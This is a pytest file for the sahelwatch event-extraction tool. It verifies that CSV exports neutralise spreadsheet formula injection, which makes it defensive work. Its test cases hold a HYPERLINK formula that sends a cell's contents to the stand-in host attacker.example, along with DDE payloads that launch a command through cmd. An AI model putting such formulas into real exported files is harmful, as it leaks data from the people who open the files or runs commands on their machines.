"""sahelwatch.formats: CSV cells a spreadsheet would run as formulas are neutralised (issue 13, item 9),
in every CSV sahelwatch writes (extract, export, the API's export); JSON formats keep the text as is."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

from sahelwatch.formats import spreadsheet_safe, write_csv, write_jsonl
from sahelwatch.model import Document, Event, Evidence

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


@pytest.mark.parametrize(("cell", "written"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Reuters", "Reuters"),
    ("AFP; Le Monde", "AFP; Le Monde"),
    ("", ""),
    ("-3.5", "-3.5"),  # a number written as text is still a number
    ("+12", "+12"),
    (-3.5, -3.5),
    (-12, -12),
    (None, None),
])
def test_spreadsheet_safe(cell, written):
    assert spreadsheet_safe(cell) == written


def _event(**fields) -> Event:
    base = {"event_id": "MLI12345678", "doc_id": "d1", "event_date": "2024-05-20", "event_type": "Battles",
            "sub_event_type": "Armed clash", "actor1": "@attacker", "actor2": "Military Forces of Mali (2021-)",
            "country": "Mali", "admin1": "Segou", "location": "-Niono", "latitude": 14.25, "longitude": -3.5,
            "source": HYPERLINK, "notes": "+ Gunmen attacked the post.", "fatalities": 3,
            "evidence": [Evidence(0, 26, "Gunmen attacked the post.")]}
    base.update(fields)
    return Event(**base)


def test_acled_csv_neutralises_text_cells_and_keeps_numbers():
    out = io.StringIO()
    write_csv([_event()], out, acled_only=True)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["source"] == "'" + HYPERLINK
    assert row["actor1"] == "'@attacker" and row["location"] == "'-Niono"
    assert row["notes"] == "'+ Gunmen attacked the post."
    assert row["longitude"] == "-3.5" and row["latitude"] == "14.25" and row["fatalities"] == "3"
    assert row["actor2"] == "Military Forces of Mali (2021-)"


def test_jsonl_keeps_the_text_as_is():
    out = io.StringIO()
    write_jsonl([_event()], out)
    assert json.loads(out.getvalue())["source"] == HYPERLINK


def test_stored_events_exported_as_acled_csv_from_the_cli_and_the_api(tmp_path):
    from click.testing import CliRunner
    from fastapi.testclient import TestClient

    from sahelwatch.api.app import create_app
    from sahelwatch.api.auth import Token
    from sahelwatch.cli import main
    from sahelwatch.store import Store

    url = f"sqlite:///{tmp_path / 'store.db'}"
    text = "Gunmen attacked the post. The army said three soldiers died."
    with Store(url) as store:
        store.add_extracted(Document("d1", text, published=dt.date(2024, 5, 22), source=HYPERLINK), [_event()])
    csv_path, jsonl_path = tmp_path / "out.csv", tmp_path / "out.jsonl"
    for fmt, path in (("acled-csv", csv_path), ("jsonl", jsonl_path)):
        result = CliRunner().invoke(main, ["export", "--db", url, "--format", fmt, "-o", str(path)])
        assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(csv_path.read_text("utf-8"))))
    assert row["source"] == "'" + HYPERLINK and row["longitude"] == "-3.5"
    assert json.loads(jsonl_path.read_text("utf-8"))["source"] == HYPERLINK

    store = Store(url)
    try:
        client = TestClient(create_app(store=store, token=Token("t" * 32, "test")))
        for fmt in ("acled-csv", "csv"):
            answer = client.get(f"/api/export?format={fmt}")
            assert answer.status_code == 200
            [row] = list(csv.DictReader(io.StringIO(answer.text)))
            assert row["source"] == "'" + HYPERLINK and row["longitude"] == "-3.5"
        assert client.get("/api/export?format=jsonl").json()["source"] == HYPERLINK
    finally:
        store.close()
